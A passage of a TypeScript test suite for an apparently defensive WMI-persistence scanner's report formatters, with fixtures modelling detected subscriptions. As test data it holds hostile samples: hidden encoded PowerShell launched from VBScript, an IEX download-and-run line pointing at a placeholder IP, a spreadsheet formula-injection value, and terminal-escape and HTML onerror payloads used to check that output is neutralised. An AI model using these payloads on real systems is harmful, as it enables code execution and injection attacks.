/**
 * Report formatters on hand-built ScanResults that look like real scans: the SCM Event Log trio of the Win10
 * repository sample (allow-listed, info), the Sysmon sample's BotFilter82/BotConsumer23 (cmd.exe, created then
 * deleted), an ActiveScript consumer in ROOT\totallylegit that Sysmon cannot see, and a hostile one whose
 * name carries terminal escapes and HTML and whose values try spreadsheet formula injection.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { Finding, Observation, ScanResult } from '../src/model/types.js';
import { CSV_COLUMNS, formatReport, isoToMicros, type ReportFormat, type TimelineEvent } from '../src/report/index.js';
import { repoRoot } from './support/samples.js';

// ---------------------------------------------------------------------------------------------- fixtures

const SYSMON_FILE = 'samples/evtx/EVTX-ATTACK-SAMPLES/sysmon_20_21_1_CommandLineEventConsumer.evtx';
const WIN10_REPO = 'samples/cim/dissect-cim-win10/OBJECTS.DATA';
const TRIAGE = 'C:\\Cases\\2024-117\\WKS-FIN-042';
const HOSTILE = 'evil\u001b[2J<img src=x onerror=alert(1)>';
const SCM_SID = 'S-1-5-32-544';

function obs(o: Partial<Observation> & Pick<Observation, 'host' | 'source' | 'action' | 'file' | 'location'>): Observation {
  return { part: null, namespace: null, className: null, name: null, time: null, user: null, properties: {}, meta: {}, ...o };
}

const scm: Finding = {
  id: 'WIN10-CIM:ROOT\\subscription:SCM Event Log Consumer',
  host: 'WIN10-CIM',
  namespace: 'ROOT\\subscription',
  status: 'active',
  severity: 'info',
  score: 0,
  filter: {
    namespace: 'ROOT\\subscription',
    className: '__EventFilter',
    name: 'SCM Event Log Filter',
    values: { Name: 'SCM Event Log Filter', Query: 'select * from MSFT_SCMEventLogEvent', QueryLanguage: 'WQL', EventNamespace: 'root\\cimv2', CreatorSID: SCM_SID },
  },
  consumer: {
    namespace: 'ROOT\\subscription',
    className: 'NTEventLogEventConsumer',
    name: 'SCM Event Log Consumer',
    values: { Name: 'SCM Event Log Consumer', Category: 0, EventType: 1, NameOfUserSIDProperty: 'sid', SourceName: 'Service Control Manager', CreatorSID: SCM_SID },
  },
  binding: {
    namespace: 'ROOT\\subscription',
    className: '__FilterToConsumerBinding',
    name: null,
    values: { Consumer: 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"', Filter: '__EventFilter.Name="SCM Event Log Filter"', CreatorSID: SCM_SID },
  },
  summary: 'NTEventLogEventConsumer: writes event to the log as source "Service Control Manager"',
  reasons: [{ id: 'allowlist.builtin', title: 'Default Windows subscription (Service Control Manager event log)', attack: [], evidence: 'select * from MSFT_SCMEventLogEvent', score: 0 }],
  decoded: [],
  observations: (['filter', 'consumer', 'binding'] as const).map((part) =>
    obs({
      host: 'WIN10-CIM',
      source: 'cim',
      action: 'present',
      part,
      namespace: 'ROOT\\subscription',
      className: part === 'filter' ? '__EventFilter' : part === 'consumer' ? 'NTEventLogEventConsumer' : '__FilterToConsumerBinding',
      name: part === 'filter' ? 'SCM Event Log Filter' : part === 'consumer' ? 'SCM Event Log Consumer' : null,
      user: SCM_SID,
      file: WIN10_REPO,
      location: `instance ${part}`,
    }),
  ),
  firstSeen: null,
  lastSeen: null,
  who: [SCM_SID],
  allowlisted: { by: 'builtin', entry: 'SCM Event Log Filter -> SCM Event Log Consumer (ROOT\\subscription)' },
  coverage: [
    { source: 'CIM repository', saw: true, reason: null },
    { source: 'Sysmon', saw: false, reason: 'consumer type not logged (NTEventLogEventConsumer)' },
  ],
};

const sysmonObs = (part: 'filter' | 'consumer' | 'binding', action: 'created' | 'deleted', time: string, record: number): Observation =>
  obs({
    host: 'IEWIN7',
    source: 'sysmon',
    action,
    part,
    namespace: part === 'filter' ? 'ROOT\\cimv2' : null,
    className: part === 'filter' ? '__EventFilter' : part === 'consumer' ? 'CommandLineEventConsumer' : '__FilterToConsumerBinding',
    name: part === 'filter' ? 'BotFilter82' : part === 'consumer' ? 'BotConsumer23' : null,
    time,
    user: 'IEWIN7\\IEUser',
    file: SYSMON_FILE,
    location: `record ${record}`,
    properties:
      part === 'filter'
        ? { EventNamespace: 'root\\cimv2', Query: "SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'" }
        : part === 'consumer'
          ? { CommandLineTemplate: 'c:\\Windows\\System32\\cmd.exe' }
          : { Consumer: 'CommandLineEventConsumer.Name="BotConsumer23"', Filter: '__EventFilter.Name="BotFilter82"' },
    meta: part === 'consumer' ? { eventId: 20, Type: 'Command Line' } : { eventId: part === 'filter' ? 19 : 21 },
  });

const bot: Finding = {
  id: 'IEWIN7:ROOT\\subscription:BotConsumer23',
  host: 'IEWIN7',
  namespace: 'ROOT\\subscription',
  status: 'deleted',
  severity: 'high',
  score: 55,
  filter: {
    namespace: 'ROOT\\subscription',
    className: '__EventFilter',
    name: 'BotFilter82',
    values: { Query: "SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'", EventNamespace: 'root\\cimv2' },
  },
  consumer: { namespace: 'ROOT\\subscription', className: 'CommandLineEventConsumer', name: 'BotConsumer23', values: { CommandLineTemplate: 'c:\\Windows\\System32\\cmd.exe' } },
  binding: { namespace: 'ROOT\\subscription', className: '__FilterToConsumerBinding', name: null, values: { Consumer: 'CommandLineEventConsumer.Name="BotConsumer23"', Filter: '__EventFilter.Name="BotFilter82"' } },
  summary: 'c:\\Windows\\System32\\cmd.exe',
  reasons: [
    { id: 'consumer.commandline', title: 'CommandLineEventConsumer runs a program as SYSTEM', attack: ['T1546.003'], evidence: 'c:\\Windows\\System32\\cmd.exe', score: 40 },
    { id: 'filter.perf-timer', title: 'Filter fires periodically (performance counter modification)', attack: ['T1546.003'], evidence: 'WITHIN 10', score: 15 },
  ],
  decoded: [],
  observations: [
    sysmonObs('consumer', 'created', '2019-05-11T17:58:23.3406596Z', 16111),
    sysmonObs('binding', 'created', '2019-05-11T17:58:23.4187846Z', 16112),
    sysmonObs('filter', 'created', '2019-05-11T17:58:39.7469096Z', 16115),
    sysmonObs('consumer', 'deleted', '2019-05-11T17:58:54.9031596Z', 16120),
    sysmonObs('filter', 'deleted', '2019-05-11T17:58:54.9812846Z', 16121),
    sysmonObs('binding', 'deleted', '2019-05-11T17:58:55.0906596Z', 16123),
  ],
  firstSeen: '2019-05-11T17:58:23.3406596Z',
  lastSeen: '2019-05-11T17:58:55.0906596Z',
  who: ['IEWIN7\\IEUser'],
  allowlisted: null,
  coverage: [
    { source: 'Sysmon', saw: true, reason: null },
    { source: 'CIM repository', saw: false, reason: 'not supplied' },
  ],
};

const SCRIPT = 'Set objShell = CreateObject("WScript.Shell")\r\nobjShell.Run "powershell.exe -NoP -W Hidden -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA", 0, False';
const legit: Finding = {
  id: 'WKS-FIN-042:ROOT\\totallylegit:WindowsUpdateSync',
  host: 'WKS-FIN-042',
  namespace: 'ROOT\\totallylegit',
  status: 'active',
  severity: 'critical',
  score: 95,
  filter: {
    namespace: 'ROOT\\totallylegit',
    className: '__EventFilter',
    name: 'WindowsUpdateSyncFilter',
    values: { Query: "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325", QueryLanguage: 'WQL', EventNamespace: 'root\\cimv2' },
  },
  consumer: { namespace: 'ROOT\\totallylegit', className: 'ActiveScriptEventConsumer', name: 'WindowsUpdateSync', values: { ScriptingEngine: 'VBScript', ScriptText: SCRIPT } },
  binding: { namespace: 'ROOT\\totallylegit', className: '__FilterToConsumerBinding', name: null, values: { Consumer: 'ActiveScriptEventConsumer.Name="WindowsUpdateSync"', Filter: '__EventFilter.Name="WindowsUpdateSyncFilter"' } },
  summary: 'VBScript: ' + SCRIPT.replace(/\r\n/g, ' ⏎ '),
  reasons: [
    { id: 'namespace.nonstandard', title: 'Subscription outside ROOT\\subscription and ROOT\\default (invisible to Sysmon and Autoruns)', attack: ['T1546.003'], evidence: 'ROOT\\totallylegit', score: 35 },
    { id: 'consumer.activescript', title: 'ActiveScriptEventConsumer runs script text in WmiPrvSE/scrcons as SYSTEM', attack: ['T1546.003'], evidence: SCRIPT, score: 30 },
    { id: 'payload.powershell-encoded', title: 'Hidden PowerShell with an encoded command', attack: ['T1059.001', 'T1027'], evidence: '-NoP -W Hidden -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA', score: 30 },
  ],
  decoded: ['$c=New-Object Net.WebClient'],
  observations: [
    obs({ host: 'WKS-FIN-042', source: 'cim', action: 'present', part: 'consumer', namespace: 'ROOT\\totallylegit', className: 'ActiveScriptEventConsumer', name: 'WindowsUpdateSync', time: '2024-03-02T01:14:07.1234567Z', file: `${TRIAGE}\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA`, location: 'page 812 offset 0x1a40' }),
    obs({ host: 'WKS-FIN-042', source: 'cim', action: 'present', part: 'filter', namespace: 'ROOT\\totallylegit', className: '__EventFilter', name: 'WindowsUpdateSyncFilter', file: `${TRIAGE}\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA`, location: 'page 812 offset 0x0c10' }),
    obs({
      host: 'WKS-FIN-042',
      source: 'wmi-activity',
      action: 'activated',
      part: 'binding',
      namespace: 'ROOT\\totallylegit',
      time: '2024-03-02T01:14:07.9010000Z',
      user: 'S-1-5-21-3623811015-3361044348-30300820-1013',
      file: `${TRIAGE}\\C\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-WMI-Activity%4Operational.evtx`,
      location: 'record 4411',
      properties: { Filter: 'Updater', Consumer: 'CommandLineEventConsumer="Updater"' },
      meta: { eventId: 5861, PossibleCause: 'Binding EventFilter: instance of __EventFilter { … }' },
    }),
  ],
  firstSeen: '2024-03-02T01:14:07.1234567Z',
  lastSeen: '2024-03-02T01:14:07.9010000Z',
  who: ['S-1-5-21-3623811015-3361044348-30300820-1013'],
  allowlisted: null,
  coverage: [
    { source: 'CIM repository', saw: true, reason: null },
    { source: 'WMI-Activity', saw: true, reason: null },
    { source: 'Sysmon', saw: false, reason: 'namespace not covered' },
    { source: 'Autoruns', saw: false, reason: 'namespace not covered' },
  ],
};

const hostile: Finding = {
  id: `WKS-FIN-042:ROOT\\subscription:${HOSTILE}`,
  host: 'WKS-FIN-042',
  namespace: 'ROOT\\subscription',
  status: 'orphan',
  severity: 'medium',
  score: 40,
  filter: null,
  consumer: { namespace: 'ROOT\\subscription', className: 'CommandLineEventConsumer', name: HOSTILE, values: { CommandLineTemplate: "=cmd|' /C calc'!A0" } },
  binding: null,
  summary: "=cmd|' /C calc'!A0",
  reasons: [{ id: 'consumer.name-control-chars', title: 'Consumer name contains control characters', attack: ['T1546.003'], evidence: HOSTILE, score: 40 }],
  decoded: [],
  observations: [
    obs({ host: 'WKS-FIN-042', source: 'cim', action: 'present', part: 'consumer', namespace: 'ROOT\\subscription', className: 'CommandLineEventConsumer', name: HOSTILE, file: `${TRIAGE}\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA`, location: 'page 901 offset 0x0200' }),
  ],
  firstSeen: null,
  lastSeen: null,
  who: ['@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '+cmd', '\tTAB', '\rCR'],
  allowlisted: null,
  coverage: [{ source: 'Sysmon', saw: false, reason: 'not supplied' }],
};

function fixture(): ScanResult {
  return structuredClone({
    tool: { name: 'wmiscope', version: '0.1.0' },
    scannedAt: '2024-03-05T09:30:00.0000000Z',
    hosts: ['IEWIN7', 'WIN10-CIM', 'WKS-FIN-042'],
    evidence: [
      { file: SYSMON_FILE, kind: 'evtx', host: 'IEWIN7', detail: 'Microsoft-Windows-Sysmon/Operational: 6 records (19, 20, 21)', records: 6, first: '2019-05-11T17:58:23.3406596Z', last: '2019-05-11T17:58:55.0906596Z' },
      { file: WIN10_REPO, kind: 'cim', host: 'WIN10-CIM', detail: 'samples/cim/dissect-cim-win10 (mapping MAPPING2.MAP, 91 namespaces)', records: 2513, first: null, last: null },
      { file: `${TRIAGE}\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA`, kind: 'cim', host: 'WKS-FIN-042', detail: `${TRIAGE}\\C\\Windows\\System32\\wbem\\Repository`, records: 2688, first: null, last: null },
    ],
    notes: [
      { file: `${TRIAGE}\\C\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-WMI-Activity%4Operational.evtx`, level: 'warning', code: 'damaged', message: 'chunk 3: bad checksum, 12 records recovered from it' },
      { file: `${TRIAGE}\\C\\Windows\\System32\\winevt\\Logs\\desktop.ini`, level: 'skipped', code: 'not-evidence', message: 'not an EVTX file or a CIM repository (no ElfFile or repository signature)' },
    ],
    // Deliberately not in ranked order: the formatters rank.
    findings: [scm, bot, hostile, legit],
  } satisfies ScanResult);
}

// ---------------------------------------------------------------------------------------------- helpers

const schema = JSON.parse(readFileSync(join(repoRoot(), 'schema/finding.schema.json'), 'utf8')) as { $id: string };
const ajv = new Ajv2020({ allErrors: true, strict: true, allowUnionTypes: true });
ajv.addFormat('date-time', (s: string) => !Number.isNaN(Date.parse(s)));
ajv.addSchema(schema);
const validateResult = ajv.getSchema(schema.$id)!;
const validateFinding = ajv.compile({ $ref: `${schema.$id}#/$defs/Finding` });

/** RFC 4180 reader: quoted fields with doubled quotes, CRLF (or LF) record ends, commas and newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (cell += c), i++;
    } else if (c === '"' && cell === '') (quoted = true), i++;
    else if (c === ',') row.push(cell), (cell = ''), i++;
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 2);
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else (cell += c), i++;
  }
  assert.equal(quoted, false, 'unterminated quoted field');
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

const csvRecords = (text: string): Record<string, string>[] => {
  const [head, ...rows] = parseCsv(text);
  assert.deepEqual(head, [...CSV_COLUMNS]);
  return rows.map((r) => {
    assert.equal(r.length, CSV_COLUMNS.length, `row width: ${JSON.stringify(r)}`);
    return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]!]));
  });
};

const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?(Z|[+-]\d{2}:\d{2})$/;
const ALL: ReportFormat[] = ['table', 'json', 'jsonl', 'csv', 'timeline', 'html'];

// ---------------------------------------------------------------------------------------------- tests

test('schema: is valid draft 2020-12 and describes the fixture; broken objects are rejected', () => {
  assert.equal(ajv.validateSchema(schema), true, ajv.errorsText(ajv.errors));
  assert.equal(validateResult(fixture()), true, ajv.errorsText(validateResult.errors));

  const broken: [string, (r: ScanResult & Record<string, unknown>) => void][] = [
    ['unknown severity', (r) => void ((r.findings[0] as unknown as Record<string, unknown>).severity = 'urgent')],
    ['missing host', (r) => void delete (r.findings[1] as Partial<Finding>).host],
    ['extra property', (r) => void ((r.findings[2] as unknown as Record<string, unknown>).comment = 'x')],
    ['time not UTC ISO', (r) => void (r.findings[1]!.observations[0]!.time = '2019-05-11 17:58:23.340')],
    ['time that is not a date', (r) => void (r.scannedAt = '2019-13-45T99:99:99Z')],
    ['nested object value', (r) => void ((r.findings[0]!.observations[0]!.properties as Record<string, unknown>).x = { a: 1 })],
    ['nested object in meta', (r) => void ((r.findings[0]!.observations[0]!.meta as Record<string, unknown>).x = { a: 1 })],
    ['observation without meta', (r) => void delete (r.findings[0]!.observations[0] as Partial<Observation>).meta],
    ['wrong tool name', (r) => void ((r.tool as { name: string }).name = 'other')],
    ['negative record count', (r) => void (r.evidence[0]!.records = -1)],
    ['missing findings', (r) => void delete (r as Partial<ScanResult>).findings],
    ['bad ATT&CK id', (r) => void (r.findings[1]!.reasons[0]!.attack = ['persistence'])],
  ];
  for (const [what, breakIt] of broken) {
    const r = fixture() as ScanResult & Record<string, unknown>;
    breakIt(r);
    assert.equal(validateResult(r), false, `should reject: ${what}`);
  }
});

test('json: the whole ScanResult, 2-space indent, valid against the schema, findings ranked', () => {
  const out = formatReport(fixture(), 'json');
  assert.ok(out.startsWith('{\n  "tool": {\n    "name": "wmiscope"'));
  assert.ok(out.endsWith('}\n'));
  const parsed = JSON.parse(out) as ScanResult;
  assert.equal(validateResult(parsed), true, ajv.errorsText(validateResult.errors));
  assert.deepEqual(
    parsed.findings.map((f) => [f.severity, f.score]),
    [
      ['critical', 95],
      ['high', 55],
      ['medium', 40],
      ['info', 0],
    ],
  );
  const { findings, ...rest } = fixture();
  const { findings: pf, ...prest } = parsed;
  assert.deepEqual(prest, rest);
  for (const f of findings) assert.deepEqual(pf.find((p) => p.id === f.id), f);
  assert.ok(!out.includes('\u001b'), 'ESC is escaped by JSON');
});

test('json/jsonl: C1 controls and bidi overrides are written as \\u escapes and parse back unchanged', () => {
  const r = fixture();
  r.findings[0]!.summary = 'a\u009b2Jb\u202egnp.exe\u2028c';
  for (const format of ['json', 'jsonl', 'timeline'] as const) {
    const out = formatReport(r, format);
    assert.ok(!/[\u0080-\u009f\u202e\u2028]/.test(out), format);
  }
  assert.equal((JSON.parse(formatReport(r, 'json')) as ScanResult).findings.find((f) => f.id === scm.id)!.summary, 'a\u009b2Jb\u202egnp.exe\u2028c');
});

test('jsonl: one compact, self-contained finding per line, each valid against $defs/Finding', () => {
  const out = formatReport(fixture(), 'jsonl');
  assert.ok(out.endsWith('\n'));
  const lines = out.trimEnd().split('\n');
  assert.equal(lines.length, 4);
  const ids = [legit.id, bot.id, hostile.id, scm.id];
  lines.forEach((line, i) => {
    assert.ok(!line.includes('\n') && !line.startsWith('{\n'), 'compact');
    const f = JSON.parse(line) as Finding;
    assert.equal(validateFinding(f), true, ajv.errorsText(validateFinding.errors));
    assert.equal(f.id, ids[i]);
    assert.deepEqual(f, fixture().findings.find((x) => x.id === f.id));
    assert.ok(f.host);
  });
  assert.equal(formatReport({ ...fixture(), findings: [] }, 'jsonl'), '');
});

test('csv: RFC 4180 rows that parse back; SCM trio, Sysmon and ROOT\\totallylegit values in their columns', () => {
  const out = formatReport(fixture(), 'csv');
  assert.ok(out.startsWith(CSV_COLUMNS.join(',') + '\r\n'));
  assert.ok(out.endsWith('\r\n'));
  const rows = csvRecords(out);
  assert.deepEqual(
    rows.map((r) => r.id),
    [legit.id, bot.id, hostile.id.replace('\u001b', '\\x1b'), scm.id],
  );
  const byId = Object.fromEntries(rows.map((r) => [r.id!, r]));
  const s = byId[scm.id]!;
  assert.deepEqual(
    [s.host, s.severity, s.score, s.status, s.namespace, s.filter_name, s.filter_query, s.consumer_class, s.consumer_name, s.allowlisted, s.seen_by, s.first_seen],
    ['WIN10-CIM', 'info', '0', 'active', 'ROOT\\subscription', 'SCM Event Log Filter', 'select * from MSFT_SCMEventLogEvent', 'NTEventLogEventConsumer', 'SCM Event Log Consumer', 'true', 'CIM repository', ''],
  );
  assert.equal(s.missed_by, 'Sysmon (consumer type not logged (NTEventLogEventConsumer))');
  const b = byId[bot.id]!;
  assert.deepEqual([b.status, b.consumer_name, b.summary, b.reasons, b.first_seen, b.last_seen, b.allowlisted], ['deleted', 'BotConsumer23', 'c:\\Windows\\System32\\cmd.exe', 'consumer.commandline;filter.perf-timer', '2019-05-11T17:58:23.3406596Z', '2019-05-11T17:58:55.0906596Z', 'false']);
  assert.equal(b.filter_query, "SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'");
  const l = byId[legit.id]!;
  assert.equal(l.missed_by, 'Sysmon (namespace not covered);Autoruns (namespace not covered)');
  assert.equal(l.seen_by, 'CIM repository;WMI-Activity');
  assert.equal(l.summary, legit.summary, 'quotes and commas survive the round trip');
  assert.ok(out.includes('"VBScript: Set objShell = CreateObject(""WScript.Shell"")'), 'embedded quotes doubled inside a quoted field');
});

test('csv: formula injection neutralised, control characters escaped, newlines kept inside quotes', () => {
  const r = fixture();
  const h = r.findings.find((f) => f.id === hostile.id)!;
  h.consumer!.className = '+cmd';
  h.namespace = '-2+3';
  h.filter = { namespace: null, className: '__EventFilter', name: '@SUM(1+1)', values: { Query: '\tselect 1' } };
  h.host = '\rWKS';
  h.firstSeen = null;
  const row = csvRecords(formatReport(r, 'csv')).find((x) => x.reasons === 'consumer.name-control-chars')!;
  assert.equal(row.summary, "'=cmd|' /C calc'!A0");
  assert.equal(row.consumer_class, "'+cmd");
  assert.equal(row.namespace, "'-2+3");
  assert.equal(row.filter_name, "'@SUM(1+1)");
  assert.equal(row.filter_query, "'\tselect 1");
  assert.equal(row.host, "'\rWKS");
  assert.equal(row.consumer_name, 'evil\\x1b[2J<img src=x onerror=alert(1)>');
  assert.equal(row.id, "WKS-FIN-042:ROOT\\subscription:evil\\x1b[2J<img src=x onerror=alert(1)>");
  for (const cell of Object.values(row)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `unsafe cell ${JSON.stringify(cell)}`);
  // A multi-line value stays one cell.
  const r2 = fixture();
  r2.findings.find((f) => f.id === legit.id)!.summary = SCRIPT;
  assert.equal(csvRecords(formatReport(r2, 'csv')).find((x) => x.id === legit.id)!.summary, SCRIPT);
});

test('timeline: Timesketch lines per timed observation, ISO datetimes, ordered, untimed ones skipped', () => {
  const out = formatReport(fixture(), 'timeline');
  const events = out
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as TimelineEvent);
  const timed = fixture().findings.flatMap((f) => f.observations.filter((o) => o.time !== null));
  assert.equal(events.length, timed.length);
  assert.equal(events.length, 8);
  for (const e of events) {
    for (const k of ['message', 'datetime', 'timestamp_desc', 'timestamp', 'host', 'finding_id', 'severity', 'source', 'action', 'part', 'namespace', 'class', 'name', 'file', 'location'])
      assert.ok(k in e, `${k} in ${JSON.stringify(e)}`);
    assert.match(e.datetime, ISO);
    assert.ok(!Number.isNaN(Date.parse(e.datetime)));
    assert.equal(Math.floor(e.timestamp / 1000), Date.parse(e.datetime));
    assert.equal(typeof e.message, 'string');
    assert.ok(e.message.length > 0 && e.timestamp_desc.length > 0);
  }
  assert.deepEqual(
    events.map((e) => e.timestamp),
    [...events.map((e) => e.timestamp)].sort((a, b) => a - b),
  );
  const first = events[0]!;
  assert.deepEqual(
    [first.datetime, first.timestamp, first.timestamp_desc, first.host, first.finding_id, first.severity, first.source, first.action, first.part, first.class, first.name, first.file, first.location],
    ['2019-05-11T17:58:23.3406596Z', 1557597503340659, 'Sysmon WMI consumer created', 'IEWIN7', bot.id, 'high', 'sysmon', 'created', 'consumer', 'CommandLineEventConsumer', 'BotConsumer23', SYSMON_FILE, 'record 16111'],
  );
  assert.match(first.message, /BotConsumer23/);
  assert.deepEqual(
    events.filter((e) => e.finding_id === bot.id).map((e) => e.timestamp_desc),
    ['Sysmon WMI consumer created', 'Sysmon WMI binding created', 'Sysmon WMI filter created', 'Sysmon WMI consumer deleted', 'Sysmon WMI filter deleted', 'Sysmon WMI binding deleted'],
  );
  const repo = events.find((e) => e.finding_id === legit.id && e.source === 'cim')!;
  assert.equal(repo.timestamp_desc, 'Repository record timestamp');
  assert.equal(repo.namespace, 'ROOT\\totallylegit');
  assert.equal(events.filter((e) => e.finding_id === scm.id).length, 0, 'the SCM trio has no times');
  assert.equal(isoToMicros('2019-05-11 17:58:23'), null);
  assert.equal(isoToMicros('2024-03-02T02:14:07.5+01:00'), Date.parse('2024-03-02T01:14:07.5Z') * 1000);
});

test('table --details -v: key lines for a responder, worst first, reasons and coverage, evidence and notes', () => {
  const out = formatReport(fixture(), 'table', { details: true, verbose: true });
  const lines = out.split('\n');
  for (const l of lines) assert.ok([...l].length <= 100, `wider than 100: ${l}`);
  const pos = (s: string): number => {
    const i = out.indexOf(s);
    assert.ok(i >= 0, `missing ${JSON.stringify(s)}\n${out}`);
    return i;
  };
  assert.ok(pos(' CRITICAL ') < pos(' HIGH ') && pos(' HIGH ') < pos(' MEDIUM ') && pos(' MEDIUM ') < pos(' INFO '));
  pos('Findings  4: 1 critical, 1 high, 1 medium, 1 info (1 allow-listed)');
  pos('Namespace  : ROOT\\totallylegit');
  pos('Consumer   : WindowsUpdateSync  [ActiveScriptEventConsumer]');
  pos('Missed by  : Sysmon (namespace not covered); Autoruns (namespace not covered)');
  pos('Seen by    : CIM repository; WMI-Activity');
  pos('• namespace.nonstandard — Subscription outside ROOT\\subscription');
  pos('• consumer.activescript — ');
  pos('• payload.powershell-encoded — Hidden PowerShell with an encoded command (+30)  T1059.001, T1027');
  pos('Decoded    : $c=New-Object Net.WebClient');
  pos('Filter     : SCM Event Log Filter  [__EventFilter]');
  pos('Query      : select * from MSFT_SCMEventLogEvent');
  pos('Consumer   : SCM Event Log Consumer  [NTEventLogEventConsumer]');
  pos('Allowlisted: yes, by builtin: SCM Event Log Filter -> SCM Event Log Consumer (ROOT\\subscription)');
  pos('Status     : deleted');
  pos('Consumer   : BotConsumer23  [CommandLineEventConsumer]');
  pos('Payload    : c:\\Windows\\System32\\cmd.exe');
  pos('First seen : 2019-05-11T17:58:23.3406596Z');
  pos('Last seen  : 2019-05-11T17:58:55.0906596Z');
  pos('2019-05-11T17:58:54.9031596Z  sysmon deleted consumer "BotConsumer23" by IEWIN7\\IEUser\n        in samples/evtx/EVTX-ATTACK-SAMPLES/sysmon_20_21_1_CommandLineEventConsumer.evtx @ record');
  pos('        in C:\\Cases\\2024-117\\WKS-FIN-042\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA @ page 812\n           offset 0x1a40\n');
  pos('Binding    : __FilterToConsumerBinding');
  pos('Evidence read: 3 files, 3 hosts, 5,207 records');
  pos(SYSMON_FILE);
  pos('Notes     1 warning, 1 skipped');
  pos('chunk 3: bad checksum, 12 records recovered from it');
  pos('not an EVTX file or a CIM repository');
  // Multi-line evidence keeps its lines, escaped: no raw CR reaches the terminal.
  assert.ok(!out.includes('\r'));
});

test('table: a hostile consumer name is shown escaped, never raw (no ESC without color, only SGR with it)', () => {
  const compact = formatReport(fixture(), 'table', { width: 200 });
  assert.ok(compact.includes('evil\\x1b[2J<img'), compact);
  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(compact), 'no control characters at all besides LF');
  assert.equal(formatReport(fixture(), 'table', { color: true, width: 200 }).replace(/\u001b\[[0-9;]*m/g, ''), compact, 'color changes nothing but the SGR codes');
  const plain = formatReport(fixture(), 'table', { details: true });
  assert.ok(!plain.includes('\u001b'), 'no raw ESC');
  assert.ok(plain.includes('Consumer   : evil\\x1b[2J<img src=x onerror=alert(1)>  [CommandLineEventConsumer]'));
  assert.ok(plain.includes('evidence: evil\\x1b[2J<img'));
  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(plain), 'no control characters at all besides LF');

  const colored = formatReport(fixture(), 'table', { color: true, details: true });
  const escapes = colored.match(/\u001b[^m]*m?/g) ?? [];
  assert.ok(escapes.length > 0);
  for (const e of escapes) assert.match(e, /^\u001b\[[0-9;]*m$/, `only SGR sequences: ${JSON.stringify(e)}`);
  assert.ok(!colored.includes('\u001b[2J'));
  assert.ok(colored.includes('\u001b[1;97;41m CRITICAL \u001b[0m'));
  assert.equal(colored.replace(/\u001b\[[0-9;]*m/g, ''), plain, 'color changes nothing but the SGR codes');
});

test('table: fits a narrow width, long payloads cut with an ellipsis, reasons never dropped', () => {
  const r = fixture();
  const l = r.findings.find((f) => f.id === legit.id)!;
  const blob = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'.repeat(30);
  l.summary = `powershell.exe -NoP -NonI -W Hidden -enc ${blob}`;
  l.decoded = [Array.from({ length: 40 }, (_, i) => `line ${i}: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a${i}.ps1')`).join('\n')];
  l.reasons.push({ id: 'payload.long', title: 'Very long payload '.repeat(12).trim(), attack: ['T1027'], evidence: blob, score: 5 });
  for (const width of [60, 80]) {
    const out = formatReport(r, 'table', { width, details: true });
    const lines = out.split('\n');
    for (const line of lines) assert.ok([...line].length <= width, `wider than ${width}: ${line}`);
    const block = out.slice(out.indexOf(' CRITICAL '), out.indexOf(' HIGH '));
    for (const reason of l.reasons) assert.ok(block.includes(`• ${reason.id} — `), `reason ${reason.id} kept at width ${width}`);
    // The long title is wrapped in full, not cut.
    const titleText = block
      .split('\n')
      .map((x) => x.trim())
      .join(' ');
    assert.ok(titleText.includes(l.reasons.at(-1)!.title), 'long reason title wrapped, not truncated');
    assert.ok(block.includes('…'), 'payload cut with an ellipsis');
    assert.ok(!block.includes(blob), 'the long blob is not printed whole');
    assert.ok(block.includes('line 0: IEX') && !block.includes('line 39:'), 'decoded payload cut');
  }
  assert.doesNotThrow(() => formatReport(r, 'table', { width: 5, details: true }), 'absurd width is clamped');
});

test('minSeverity filters findings in every format', () => {
  const r = fixture();
  const keep = new Set([legit.id, bot.id]);
  const json = JSON.parse(formatReport(r, 'json', { minSeverity: 'high' })) as ScanResult;
  assert.deepEqual(
    json.findings.map((f) => f.id),
    [legit.id, bot.id],
  );
  assert.equal(validateResult(json), true);
